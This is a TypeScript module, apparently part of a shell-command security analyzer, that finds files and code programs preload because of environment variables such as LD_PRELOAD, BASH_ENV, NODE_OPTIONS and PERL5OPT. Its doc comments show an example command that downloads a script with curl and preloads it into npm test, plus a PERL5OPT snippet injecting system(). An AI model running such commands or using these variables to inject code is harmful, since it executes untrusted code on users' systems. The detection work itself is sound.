import { staticField, type Field, type Invocation } from "../model.js";
import type { Env } from "../walk/env.js";

/** A file a program loads and runs because a variable of its environment names it. */
export interface PreloadedFile {
  file: Field;
  /** The variable (and option) that loads it, for reasons. */
  label: string;
  /** The file is shell code the shell sources (`BASH_ENV`, `ENV`). */
  shell: boolean;
}

/** What the environment makes programs load before their own code. */
export interface PreloadedCode {
  files: PreloadedFile[];
  /** Perl code `PERL5OPT` adds (`-Mstrict;system(…)` is `use strict;system(…)`). */
  perl: string[];
}

/** At most this many files or snippets are read from one variable. */
const MAX_ITEMS = 16;

/**
 * The files and code a program loads because of its environment, documented by each runtime:
 * `BASH_ENV`/`ENV` (a script the shell sources first), `LD_PRELOAD`/`LD_AUDIT`/
 * `DYLD_INSERT_LIBRARIES` (libraries the loader maps into every program), `NODE_OPTIONS`
 * (`--require`, `--import`, `--loader`), `RUBYOPT` (`-r`), `JAVA_TOOL_OPTIONS`/`_JAVA_OPTIONS`/
 * `JDK_JAVA_OPTIONS` (`-javaagent:`, `-agentpath:`) and `PERL5OPT` (`-M`/`-m`, whose text after
 * the module name is Perl code). Variables set as a prefix of the command count, and so do those
 * the script set earlier.
 *
 * @example
 * // curl -so /tmp/h.js https://x/h.js && NODE_OPTIONS="--require /tmp/h.js" npm test
 * preloadedCode(invocation, env).files[0]?.file.value // "/tmp/h.js"
 */
export function preloadedCode(invocation: Invocation, env: Env): PreloadedCode {
  const found: PreloadedCode = { files: [], perl: [] };
  for (const name of ["BASH_ENV", "ENV"]) add(found, valueOf(invocation, env, name), name, true);
  for (const name of ["LD_PRELOAD", "LD_AUDIT", "DYLD_INSERT_LIBRARIES"]) {
    for (const library of words(valueOf(invocation, env, name), /[\s:]+/)) add(found, library, name);
  }
  optionOperands(words(valueOf(invocation, env, "NODE_OPTIONS")), ["-r", "--require", "--import", "--loader", "--experimental-loader"]).forEach((file) => add(found, file, "NODE_OPTIONS"));
  optionOperands(words(valueOf(invocation, env, "RUBYOPT")), ["-r"]).forEach((file) => add(found, file, "RUBYOPT"));
  for (const name of ["JAVA_TOOL_OPTIONS", "_JAVA_OPTIONS", "JDK_JAVA_OPTIONS"]) {
    for (const word of words(valueOf(invocation, env, name))) {
      const agent = /^-(?:javaagent|agentpath):([^=]+)/.exec(word);
      if (agent) add(found, agent[1], name);
    }
  }
  for (const word of words(valueOf(invocation, env, "PERL5OPT"))) {
    const module = /^-[Mm]-?([\s\S]+)$/.exec(word);
    if (!module || found.perl.length >= MAX_ITEMS) continue;
    const text = module[1] as string;
    const split = text.search(/[;=]/);
    const name = split < 0 ? text : text.slice(0, split);
    const rest = split < 0 ? "" : text.slice(split);
    found.perl.push(rest.startsWith("=") ? `use ${name} split(/,/, q{${rest.slice(1)}});` : `use ${name}${rest};`);
  }
  return found;
}

/** A variable's value for the command: its own assignment first, then the environment. */
function valueOf(invocation: Invocation, env: Env, name: string): string | undefined {
  const assigned = invocation.assignments.get(name);
  if (assigned) return assigned.process ? undefined : assigned.value;
  return env.get(name)?.value;
}

function add(found: PreloadedCode, file: string | undefined, label: string, shell = false): void {
  if (file !== undefined && file !== "" && found.files.length < MAX_ITEMS) found.files.push({ file: staticField(file), label, shell });
}

function words(value: string | undefined, separator: RegExp = /\s+/): string[] {
  if (!value) return [];
  return value.split(separator, MAX_ITEMS * 2).map((word) => word.replace(/^(["'])(.*)\1$/, "$2")).filter(Boolean);
}

/** The operands of the given options, spelled `-r x`, `-rx`, `--require x` or `--require=x`. */
function optionOperands(args: readonly string[], options: readonly string[]): string[] {
  const operands: string[] = [];
  args.forEach((word, index) => {
    for (const option of options) {
      if (word === option) operands.push(args[index + 1] ?? "");
      else if (option.startsWith("--") && word.startsWith(`${option}=`)) operands.push(word.slice(option.length + 1));
      else if (!option.startsWith("--") && word.startsWith(option) && word.length > option.length) operands.push(word.slice(option.length));
    }
  });
  return operands.filter(Boolean);
}
